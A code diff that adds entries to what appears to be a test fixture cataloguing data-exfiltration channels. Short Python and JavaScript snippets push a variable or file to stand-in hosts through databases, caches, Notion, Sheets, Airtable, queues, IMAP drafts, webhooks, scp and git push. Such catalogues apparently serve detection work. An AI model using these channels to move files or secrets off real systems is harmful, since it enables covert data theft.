@@ -46,6 +46,20 @@ const PY: Readonly<Record<string, string>> = {
   ftp: 'f = ftplib.FTP("h.test")\nf.login("u", "p")\nf.storbinary("STOR k", open(K, "rb"))',
   sftp: 't = paramiko.Transport(("h.test", 22))\nt.connect(username="u", password="p")\nparamiko.SFTPClient.from_transport(t).put(K, "k")',
   'ssh client': 'c = paramiko.SSHClient()\nc.connect("h.test", username="u")\nc.exec_command(f"echo {D} > k")',
+  database:
+    'c = psycopg2.connect("postgresql://u:p@db.h.test/x")\nwith c.cursor() as q:\n    q.execute("insert into t values (%s)", (D,))',
+  'database by its engine':
+    'import sqlalchemy\nwith sqlalchemy.create_engine("mysql://u:p@db.h.test/x").begin() as c:\n    c.execute("insert into t values (:k)", {"k": D})',
+  cache: 'redis.Redis(host="cache.h.test").set("k", D)',
+  documents: 'pymongo.MongoClient("mongodb://m.h.test").x.y.insert_one({"k": D})',
+  'table of a platform':
+    'from supabase import create_client\ncreate_client("https://abc.supabase.co", "k").table("t").insert({"k": D}).execute()',
+  'rows of a sheet': 'import gspread\ngspread.service_account().open_by_key("k").sheet1.append_row([D])',
+  'page of notes':
+    'from notion_client import Client\nClient(auth="t").pages.create(parent={"database_id": "x"}, properties={"t": D})',
+  'table of records': 'from pyairtable import Api\nApi("t").table("a", "b").create({"k": D})',
+  queue: 'import zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect("tcp://z.h.test:5555")\ns.send_string(D)',
+  'drafts of a mailbox': 'import imaplib\nimaplib.IMAP4_SSL("mail.h.test").append("Drafts", "", "", D.encode())',
   'pushed with a repository':
     'import shutil\nshutil.copy(K, "/tmp/r/k.bin")\nfor a in (["add", "-A"], ["commit", "-m", "x"], ["push"]):\n    subprocess.run(["git", *a], cwd="/tmp/r")',
   'scp by a program': 'subprocess.run(["scp", K, "u@h.test:k"])',
@@ -134,6 +148,13 @@ const JS: Readonly<Record<string, string>> = {
   discord: "new discord.WebhookClient({ url: 'https://discord.com/api/webhooks/1/x' }).send(D);",
   gist: "new octokit.Octokit({ auth: 't' }).gists.create({ files: { k: { content: D } } });",
   issue: "new octokit.Octokit({ auth: 't' }).rest.issues.create({ owner: 'a', repo: 'b', title: 'x', body: D });",
+  database:
+    "const c = new pg.Client({ connectionString: 'postgresql://u:p@db.h.test/x' }); c.query('insert into t values ($1)', [D]);",
+  cache: "redis.createClient({ url: 'redis://cache.h.test' }).set('k', D);",
+  documents: "new mongodb.MongoClient('mongodb://m.h.test').db('x').collection('y').insertOne({ k: D });",
+  'table of a platform':
+    "require('@supabase/supabase-js').createClient('https://abc.supabase.co', 'k').from('t').insert({ k: D });",
+  'page of notes': "new (require('@notionhq/client').Client)({ auth: 't' }).pages.create({ properties: { t: D } });",
   'pushed with a repository':
     "fs.copyFileSync(K, '/tmp/r/k.bin'); cp.execSync('git add . && git commit -m x && git push', { cwd: '/tmp/r' });",
   'scp by a program': "cp.execFileSync('scp', [K, 'u@h.test:k']);",
